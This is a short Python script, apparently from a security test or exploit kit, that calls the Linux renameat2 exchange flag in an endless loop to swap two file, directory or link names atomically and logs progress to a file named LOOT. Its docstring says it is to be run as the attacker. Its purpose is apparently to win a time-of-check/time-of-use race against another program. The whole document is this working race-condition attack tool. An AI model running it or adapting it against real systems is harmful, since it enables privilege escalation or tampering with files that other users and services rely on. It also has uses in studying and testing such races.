"""Swap the names of two files, directories or links with each other without a pause, each time in one step:
`swap.py ONE OTHER LOOT`;
LOOT gets a line every hundred times. To be run as the attacker."""

import ctypes
import errno
import itertools
import os
import sys

AT_CWD, EXCHANGE = -100, 2

one, other, loot = (os.fsencode(path) for path in sys.argv[1:])
renameat2 = ctypes.CDLL(None, use_errno=True).renameat2
for swaps in itertools.count(1):
    # The module may have taken one of the names away for a moment.
    if renameat2(AT_CWD, one, AT_CWD, other, EXCHANGE) and ctypes.get_errno() != errno.ENOENT:
        sys.exit(os.strerror(ctypes.get_errno()))
    if swaps % 100 == 0:
        with open(loot, "a") as file:
            file.write("swapped\n")
